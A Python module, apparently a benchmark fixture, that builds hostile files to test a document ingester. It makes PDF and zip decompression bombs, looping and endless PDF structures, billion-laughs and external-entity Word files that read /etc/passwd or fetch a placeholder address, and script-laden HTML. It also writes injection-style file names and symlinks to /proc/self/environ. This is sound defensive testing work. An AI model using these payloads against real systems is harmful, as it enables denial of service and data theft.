"""Makers of bombs and odd files: small to keep, and large, endless, entangled or deceitful to read.

Each maker gives the bytes of a file; `EVERY` has them by the file's name. `odd_names` and `traps` put into a folder what is
no file's content: names that mislead, links that leave, pipes, sockets. `python benchmarks/hostile.py --bombs` ingests them.
"""

import io
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

MIB = 1 << 20
OUTSIDE = "http://127.0.0.1:9/"  # where nothing listens; a test puts in a place that does
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


# --- PDF


def pdf(objects: Iterable[bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a sound table of where they stand."""
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, os.SEEK_END)
    places = []
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(b"trailer\n<</Size %d/Root %d 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, root, trailer, start))
    return out.getvalue()


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object's body, as `data` stands."""
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(data), more, data)


def deflated(size: int, times: int = 1, byte: bytes = b" ") -> bytes:
    """A stream's body of `size` bytes, deflated `times` times over: each time it shrinks to a thousandth."""
    packer = zlib.compressobj(9)
    first = packer.compress(byte * MIB) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(byte * MIB) + packer.flush(zlib.Z_FULL_FLUSH)  # the same as all that follow
    check = zlib.adler32(b"")
    for _ in range(size // MIB):
        check = zlib.adler32(byte * MIB, check)
    data = first + again * (size // MIB - 1) + b"\3\0" + check.to_bytes(4, "big")  # the last block is empty
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[%b]" % (b"/FlateDecode" * times))


def page_of(*contents: bytes, font: bytes = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>") -> bytes:
    """A PDF with one page, whose content streams have these bodies."""
    links = b" ".join(b"%d 0 R" % number for number in range(5, 5 + len(contents)))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 4 0 R>>>>/Contents[%b]>>" % links
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, font, *contents])


def deflate_bomb(size: int = 1024 * MIB, times: int = 1) -> bytes:
    """A page whose content unpacks to `size` bytes of nothing."""
    return page_of(deflated(size, times))


def many_operators(count: int = 900_000) -> bytes:
    """A page on which `count` lines are drawn."""
    return page_of(stream(zlib.compress(b"0 0 m 9 9 l S\n" * (count // 3), 9), b"/Filter/FlateDecode"))


def many_texts(count: int = 1_000_000) -> bytes:
    """A page with `count` texts of one letter, each of its own."""
    lines = b"".join(b"1 0 0 1 %d %d Tm(a)Tj\n" % (number % 590, number % 839) for number in range(5000))
    return page_of(stream(zlib.compress(b"BT/F 9 Tf\n" + lines * (count // 5000) + b"ET", 9), b"/Filter/FlateDecode"))


def cyclic_pages() -> bytes:
    """A page tree whose branch holds the tree."""
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>"]
    )


def endless_pages(count: int = 2_000_000_000, kids: int = 5000) -> bytes:
    """A page tree that claims two thousand million pages and has one, again and again."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (b"3 0 R " * kids, count), page])


def doubling_pages(levels: int = 40) -> bytes:
    """A page tree each of whose branches stands twice in the one above: 2 to the power of `levels` pages."""
    branches = [
        b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (number + 1, number + 1, 1 << (levels + 2 - number))
        for number in range(2, levels + 2)
    ]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *branches, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def deep_pages(levels: int = 50_000) -> bytes:
    """A page tree of branches with one branch each."""
    branches = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(2, levels + 2)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *branches, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def object_stream_bomb(size: int = 1024 * MIB) -> bytes:
    """A catalogue that stands in an object stream of `size` bytes, found by a cross-reference stream."""
    body = deflated(size).replace(b"<<", b"<</Type/ObjStm/N 1/First 4", 1)
    head = b"%PDF-1.7\n"
    first = b"2 0 obj\n%b\nendobj\n" % body
    start = len(head) + len(first)
    entries = b"".join(struct.pack(">BIH", *entry) for entry in [(0, 0, 65535), (2, 2, 0), (1, len(head), 0), (1, start, 0)])
    table = stream(entries, b"/Type/XRef/Size 4/W[1 4 2]/Root 1 0 R")
    return head + first + b"3 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def xref_loop() -> bytes:
    """Tables that name each other as the one before."""
    data = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    first = len(data)
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 3/Root 1 0 R/Prev %010d>>\n"
    second = first + len(table % 0)
    return data + table % second + table % first + b"startxref\n%d\n%%%%EOF\n" % first


def deep_arrays(levels: int = 200_000) -> bytes:
    """A title of arrays in arrays."""
    title = b"[" * levels + b"]" * levels
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", b"<</Title %b>>" % title], trailer=b"/Info 3 0 R"
    )


def form_loop() -> bytes:
    """A drawing that draws itself twice over."""
    form = stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, form, stream(b"/X Do")])


def huge_picture() -> bytes:
    """A picture of 60,000 by 60,000 points, of one byte repeated."""
    picture = deflated(64 * MIB, byte=b"\0").replace(
        b"<<", b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB", 1
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R>>"
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, picture, stream(b"9 0 0 9 0 0 cm /X Do")]
    )


def fetching_pdf(address: str = OUTSIDE) -> bytes:
    """A page whose content is said to stand elsewhere, with an action that goes there when it is opened."""
    where = address.encode()
    outer = b"<</Length 0/F<</FS/URL/F(%b)>>/FFilter/FlateDecode>>stream\n\nendstream" % where
    catalogue = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(%b)>>/AA<</WC<</S/Launch/F(/bin/true)>>>>>>" % where
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    return pdf([catalogue, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, outer])


# --- Office


def docx(body: str, rels: str = "", more: dict[str, bytes] | None = None, head: str = "") -> bytes:
    """A Word file whose document has this body; `head` stands before its first tag, `more` beside it in the archive."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    defaults = "".join(
        f'<Default Extension="{ending}" ContentType="application/{of}xml"/>'
        for ending, of in (("rels", "vnd.openxmlformats-package.relationships+"), ("xml", ""))
    )
    override = f'<Override PartName="/word/document.xml" ContentType="{kind}"/>'
    types = f'<Types xmlns="{_PACKAGE}/content-types">{defaults}{override}</Types>'
    links = f'<Relationships xmlns="{_PACKAGE}/relationships">%s</Relationships>'
    top = f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="word/document.xml"/>'
    document = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}</w:body></w:document>'
    return packed(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": (links % top).encode(),
            "word/document.xml": document.encode(),
            "word/_rels/document.xml.rels": (links % rels).encode(),
            **(more or {}),
        }
    )


def paragraph(words: str) -> str:
    """A paragraph of Word."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def packed(members: dict[str, bytes]) -> bytes:
    """A zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb(size: int = 400 * MIB) -> bytes:
    """A Word file with a part that unpacks to `size`."""
    return docx(paragraph("a"), more={"word/styles.xml": b" " * size})


def lying_zip_bomb(size: int = 64 * MIB) -> bytes:
    """The same, with a directory that says the part has ten bytes."""
    data = bytearray(docx(paragraph("a"), more={"word/styles.xml": b" " * size}))
    at = data.rfind(b"word/styles.xml") - 46  # its entry in the directory
    assert data[at : at + 4] == b"PK\1\2"
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def many_members(count: int = 30_000) -> bytes:
    """A Word file of that many parts."""
    return docx(paragraph("a"), more={f"word/p{number}.xml": b"<a/>" for number in range(count)})


def overlapping_members(count: int = 2000, size: int = 8 * MIB) -> bytes:
    """A zip archive whose members are all one and the same piece of the file: it unpacks to `count` times `size`."""
    name = b"word/a.xml"
    body = zlib.compressobj(9, wbits=-15)
    data = body.compress(b" " * size) + body.flush()
    numbers = (zlib.crc32(b" " * size), len(data), size, len(name), 0)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, *numbers) + name + data
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 33, *numbers, 0, 0, 0, 0, 0)
    names = [b"%07d.xm" % number for number in range(count)]
    table = b"".join(entry + each for each in names)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(table), len(local), 0)
    return local + table + end


def entities(address: str = OUTSIDE, *, outside: bool = False) -> bytes:
    """A Word file with the billion laughs; `outside`: with what stands at an address and in a file of the system."""
    if outside:
        declared = f'<!ENTITY a SYSTEM "{address}"><!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY % c SYSTEM "{address}"> %c;'
    else:
        levels = [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
        declared = '<!ENTITY a0 "ha">' + "".join(levels)
    return docx(paragraph("&a;&b;" if outside else "&a9;"), head=f"<!DOCTYPE w [{declared}]>")


def fetching_docx(address: str = OUTSIDE) -> bytes:
    """A Word file with a template, a picture and a frame that stand elsewhere."""
    kinds = ("attachedTemplate", "image", "frame", "oleObject", "hyperlink")
    rels = "".join(
        f'<Relationship Id="x{n}" Type="{_R}/{kind}" Target="{address}" TargetMode="External"/>' for n, kind in enumerate(kinds)
    )
    return docx(paragraph("What stands elsewhere is not fetched, and the words here are read."), rels=rels)


def deep_docx(levels: int = 5000) -> bytes:
    """Tables in tables."""
    return docx("<w:tbl><w:tr><w:tc>" * levels + paragraph("a") + "</w:tc></w:tr></w:tbl>" * levels)


# --- HTML, Markdown, text, records


def deep_html(levels: int = 100_000) -> bytes:
    """Tags in tags."""
    return b"<div>" * levels + b"a" + b"</div>" * levels


def active_html(address: str = OUTSIDE) -> bytes:
    """A page that would run and fetch all that it can, and has one sentence."""
    return f"""<!DOCTYPE html SYSTEM "{address}d.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<html><head><title>Active</title><base href="{address}"><meta http-equiv="refresh" content="0; url={address}m">
<script src="{address}s"></script><link rel="stylesheet" href="{address}c"><style>@import "{address}i";</style></head>
<body onload="fetch('{address}o')"><iframe src="{address}f"></iframe><img src="{address}p" onerror="alert(1)">
<object data="{address}e"></object><embed src="{address}b"><svg><image href="{address}v"/></svg>
<script>document.write("the words of a script")</script>
<p>The words of the page are read and its scripts are not run at all &x;.</p></body></html>""".encode()


def huge_line(size: int = MIB) -> bytes:
    """Text of one line."""
    return (b"The siren sounds again and again and " * (size // 37 + 1))[:size]


def emphasis(count: int = 60_000) -> bytes:
    """Markdown that opens emphasis and links and closes none."""
    return b"*a **a _a [a ![a `a <a " * count


def huge_records(size: int = 65 * MIB) -> bytes:
    """A bulk file with one line that never ends, between two good ones."""
    good = b'{"_id": "%d", "title": "Siren %d", "text": "The siren in district %d sounds for all of the people there."}\n'
    return good % (1, 1, 1) + b'{"_id": "2", "text": "' + b"a" * size + b'"}\n' + good % (3, 3, 3)


def deep_records(levels: int = 100_000) -> bytes:
    """A record whose metadata is lists in lists."""
    return b'{"_id": "1", "title": "t", "text": "a", "metadata": ' + b"[" * levels + b"]" * levels + b"}\n"


EVERY: dict[str, Callable[[], bytes]] = {
    "deflate.pdf": deflate_bomb,
    "deflate-twice.pdf": lambda: deflate_bomb(times=2),
    "operators.pdf": many_operators,
    "texts.pdf": many_texts,
    "cyclic.pdf": cyclic_pages,
    "endless.pdf": endless_pages,
    "doubling.pdf": doubling_pages,
    "deep.pdf": deep_pages,
    "object-stream.pdf": object_stream_bomb,
    "xref-loop.pdf": xref_loop,
    "arrays.pdf": deep_arrays,
    "form-loop.pdf": form_loop,
    "picture.pdf": huge_picture,
    "fetching.pdf": fetching_pdf,
    "bomb.docx": zip_bomb,
    "bomb.pptx": zip_bomb,
    "lying.docx": lying_zip_bomb,
    "members.docx": many_members,
    "members.pptx": many_members,
    "overlapping.docx": overlapping_members,
    "overlapping.pptx": overlapping_members,
    "laughs.docx": entities,
    "outside.docx": lambda: entities(outside=True),
    "fetching.docx": fetching_docx,
    "deep.docx": deep_docx,
    "deep.html": deep_html,
    "active.html": active_html,
    "line.md": huge_line,
    "line.txt": huge_line,
    "line.html": lambda: huge_line(11 * MIB),
    "emphasis.md": emphasis,
    "records.jsonl": huge_records,
    "deep.jsonl": deep_records,
}


# --- folders

ODD_NAMES = (  # as bytes, each the name of a good note
    b"..%2f..%2fetc%2fpasswd.md", b"..\\..\\up.md", b"...md", b"line\nbreak.md", b"tab\tand\x1b[2J.md", b"\xff\xfe.md",
    "gnp.\u202efdp.md".encode(), "zero\u200bwidth.md".encode(), b"'; DROP TABLE files; --.md", b"<script>alert(1)<.md",
    b"-rf.md", b"$(id).md", b"~root.md", b"n" * 252 + b".md", "å".encode() * 126 + b".md",
)  # fmt: skip


def odd_names(folder: Path, note: Callable[[int], str]) -> list[Path]:
    """Write a note under each odd name (NUL and "/" no file system takes); the paths."""
    paths = [Path(os.fsdecode(os.fsencode(folder) + b"/" + name)) for name in ODD_NAMES]
    for number, path in enumerate(paths):
        path.write_text(note(number), "utf-8")
    return paths


def traps(folder: Path, outside: Path) -> socket.socket:
    """Put links that leave, loop or lead nowhere, a pipe and a socket into a folder. The socket is the caller's to close."""
    (folder / "leaves.md").symlink_to(outside)
    (folder / "up.md").symlink_to(f"../../../../../../../..{outside}")
    (folder / "loop.md").symlink_to("loop.md")
    (folder / "nowhere.md").symlink_to("nowhere")
    (folder / "device.md").symlink_to("/dev/zero")
    (folder / "process.md").symlink_to("/proc/self/environ")
    (folder / "circle").mkdir()
    (folder / "circle" / "again").symlink_to("..")
    os.mkfifo(folder / "pipe.md")
    listening = socket.socket(socket.AF_UNIX)
    here = os.open(folder, os.O_PATH)
    listening.bind(f"/proc/self/fd/{here}/socket.md")  # a socket's address has room for 107 bytes only
    os.close(here)
    return listening
